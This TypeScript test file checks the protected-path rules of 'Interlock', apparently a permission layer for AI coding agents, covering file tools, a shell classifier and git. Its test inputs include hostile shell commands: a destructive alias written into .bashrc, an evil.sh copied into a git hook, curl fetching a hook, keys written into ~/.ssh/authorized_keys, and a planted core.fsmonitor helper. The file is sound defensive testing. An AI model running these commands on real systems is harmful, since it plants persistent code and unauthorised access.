import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { bashTool, builtinTools, createInterlock, type Interlock } from '../index.js';
import { createShellClassifier } from './shell/index.js';
import { protectedKind } from './protected-paths.js';

/*
 * Protected paths (issue 13, class 3): Interlock's store is never written by an agent;
 * `.git` internals, shell startup files, credentials and editor/agent/CI settings ask in
 * every mode, yolo included, through the file tools and through the shell.
 */

const instances: Interlock[] = [];
afterAll(async () => {
  for (const interlock of instances) await interlock.close();
});

async function inMode(
  mode: 'default' | 'autoEdit' | 'yolo',
  extra: { toolOverrides?: Record<string, boolean | 'deny'> } = {},
): Promise<Interlock> {
  const interlock = await createInterlock({ tools: builtinTools, approval: { mode, ...extra } });
  instances.push(interlock);
  return interlock;
}

const decide = (interlock: Interlock, toolName: string, args: Record<string, unknown>) =>
  interlock.explain({ toolName, arguments: args });

const PROTECTED = [
  '.git/config',
  '.git/hooks/pre-commit',
  './.git/HEAD',
  '.bashrc',
  'sub/.zshrc',
  '.envrc',
  '.vscode/settings.json',
  '.claude/settings.json',
  '.github/workflows/ci.yml',
  '.ssh/authorized_keys',
  '.npmrc',
  '.husky/pre-commit',
  '.mcp.json',
];
const STORE = ['.interlock/interlock.db', '.interlock/interlock.db-wal', 'x/.interlock/notes.json', 'interlock.db'];

describe('the file tools on protected paths (issue 13)', () => {
  it.each(['default', 'autoEdit', 'yolo'] as const)('never writes the store in %s mode', async (mode) => {
    const interlock = await inMode(mode, { toolOverrides: { write_file: false } });
    for (const path of STORE) {
      expect(decide(interlock, 'write_file', { path, content: '' }), path).toMatchObject({
        outcome: 'deny',
        rule: 'path:protected:interlock',
      });
      expect(decide(interlock, 'edit_file', { path, find: 'a', replace: 'b' }).outcome).toBe('deny');
    }
  });

  it.each(['autoEdit', 'yolo'] as const)(
    'asks about .git, startup files, credentials and settings in %s mode, even with an override',
    async (mode) => {
      const interlock = await inMode(mode, { toolOverrides: { write_file: false, edit_file: false } });
      for (const path of PROTECTED) {
        const decision = decide(interlock, 'write_file', { path, content: 'x' });
        expect(decision.outcome, path).toBe('ask');
        expect(decision.rule, path).toMatch(/^path:protected:/);
      }
      expect(decide(interlock, 'write_file', { path: 'src/notes.md', content: 'x' }).outcome).toBe('allow');
    },
  );

  it('refuses, when deciding, a path outside the workspace', async () => {
    const interlock = await inMode('yolo');
    for (const path of ['../outside.txt', '/etc/passwd', '~/.bashrc', 'a/../../b']) {
      expect(decide(interlock, 'write_file', { path, content: '' }), path).toMatchObject({
        outcome: 'deny',
        rule: 'path:outside-workspace',
      });
    }
    expect(decide(interlock, 'write_file', { path: 'a/../b.txt', content: '' }).outcome).toBe('allow');
  });
});

const shell = await createShellClassifier();

describe('the shell on protected paths (issue 13)', () => {
  it.each([
    'echo "alias ls=rm" >> ~/.bashrc',
    'echo x > $HOME/.profile',
    'cp evil.sh .git/hooks/pre-commit',
    'tee .vscode/settings.json < settings.json',
    "sed -i 's/a/b/' .git/config",
    'curl -o .git/hooks/post-checkout https://x.example/h',
    'ln -sf /tmp/x .husky/pre-commit',
    'printf x > .github/workflows/ci.yml',
    'mv key ~/.ssh/authorized_keys',
  ])('treats %j as high-risk: it asks in every mode', (command) => {
    expect(shell.classify(command)).toMatchObject({ verdict: 'high-risk', rule: 'shell:high-risk:protected-path' });
  });

  it.each([
    'echo x > .interlock/interlock.db',
    'rm .interlock/interlock.db-wal',
    'cp /dev/null .interlock/interlock.db',
  ])('bans %j: the store is never written', (command) => {
    expect(shell.classify(command).verdict).toBe('banned');
  });

  it('asks in yolo mode about a shell write to a protected path', async () => {
    const interlock = await inMode('yolo');
    expect(decide(interlock, 'bash', { command: 'echo x >> .bashrc' }).outcome).toBe('ask');
  });

  it('keeps reading them ordinary', () => {
    expect(shell.classify('cat .git/config').verdict).toBe('safe');
  });
});

describe('git run by the bash tool (issue 13)', () => {
  it('does not run a helper a repository planted (core.fsmonitor) on a plain git status', async () => {
    const directory = await mkdtemp(join(tmpdir(), 'interlock-git-'));
    const canary = join(directory, 'canary');
    execFileSync('git', ['init', '-q', directory]);
    execFileSync('git', ['-C', directory, 'config', 'core.fsmonitor', `touch ${canary}; false`]);
    // The plant works on a plain git: this is what the bash tool must not let happen.
    execFileSync('git', ['-C', directory, 'status'], { stdio: 'ignore' });
    expect(existsSync(canary)).toBe(true);
    execFileSync('rm', [canary]);

    const result = (await bashTool.execute({ command: 'git status', timeoutMs: 10_000 }, {
      workspaceRoot: directory,
      signal: new AbortController().signal,
    } as never)) as { exitCode: number };
    expect(result.exitCode).toBe(0);
    expect(existsSync(canary)).toBe(false);
  });
});

describe('protected paths as case-insensitive file systems open them (issue 24)', () => {
  it.each([
    ['.GIT/hooks/pre-commit', 'git'],
    ['.Git/config', 'git'],
    ['.git./hooks/x', 'git'],
    ['.BASHRC', 'shell-startup'],
    ['home/.SSH/authorized_keys', 'credentials'],
    ['.config/gcloud/credentials.db', 'credentials'],
    ['.VSCode/settings.json', 'settings'],
    ['.Interlock/interlock.db', 'interlock'],
  ])('treats %s as %s (F24)', (path, kind) => {
    expect(protectedKind(path)).toBe(kind);
  });
});
